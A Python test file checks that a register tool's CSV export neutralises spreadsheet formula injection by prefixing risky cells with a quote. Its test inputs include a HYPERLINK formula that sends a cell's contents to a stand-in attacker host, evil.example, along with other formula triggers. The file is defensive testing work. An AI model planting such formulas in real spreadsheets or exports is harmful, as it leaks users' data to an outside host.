"""CSV exports and spreadsheets: a name from the register never runs as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from digitize.csv_export import cell, to_csv
from tests.conftest import write_register

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.parametrize("text", [*HOSTILE, "\t=1+1", "\r=1+1", "=", "-"])
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize("value, written", [
    ("UBND phường Bến Nghé", "UBND phường Bến Nghé"), ("1.001193 Đăng ký khai sinh", "1.001193 Đăng ký khai sinh"),
    ("'=already text", "'=already text"), ("a=b", "a=b"), ("", ""), (None, ""),
    (3, "3"), (-2, "-2"), (0.5, "0.5000"), (-0.25, "-0.2500"),  # numbers stay numbers, even negative ones
])
def test_other_cells_are_written_as_they_are(value, written):
    assert cell(value) == written


def test_every_cell_goes_through_the_same_rule_and_the_csv_still_parses():
    text = to_csv(["name", "count"], [[HOSTILE[0], 2], ["Sở, Tư pháp", -1], [None, 0.5]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "count"], ["'" + HOSTILE[0], "2"], ["Sở, Tư pháp", "-1"], ["", "0.5000"]]


@pytest.fixture
def hostile_register(sohoa, tmp_path):
    """Four records, each with an agency and a procedure named like a formula."""
    rows = [[f"000.00.53.H48-260105-000{n}", name, name, name, "1", "2026-01-05", "", "Nguyễn Văn An", "",
             "false", "Tờ khai"] for n, name in enumerate(HOSTILE, 1)]
    sohoa("records", "import", write_register(tmp_path / "register.csv", rows))
    return rows


@pytest.mark.parametrize("by", ["agency", "procedure", "agency,month"])
def test_coverage_csv_neutralises_register_names_and_keeps_its_figures(sohoa, hostile_register, by):
    report = sohoa.json("coverage", "--by", by)

    rows = list(csv.DictReader(io.StringIO(sohoa("coverage", "--by", by, "--csv").stdout)))

    assert len(rows) == len(report["rows"]) + 1 and rows[-1]["group"] == "total"
    for line, row in zip(rows, report["rows"]):
        assert line["group"] == "'" + row["group"]  # the JSON keeps the name as the register has it
        for key in by.split(","):
            assert line[key] == (row[key] if key == "month" else "'" + row[key])
        assert (line["received"], line["digitized"], line["rate"]) == ("1", "0", "0.0000")
    assert {row["group"] for row in report["rows"]} == (
        set(HOSTILE) if by == "agency" else {f"{n} {n}" for n in HOSTILE} if by == "procedure"
        else {f"{n} / 2026-01" for n in HOSTILE})
    assert not [c for line in rows for c in line.values() if c.startswith(("=", "+", "-", "@"))]
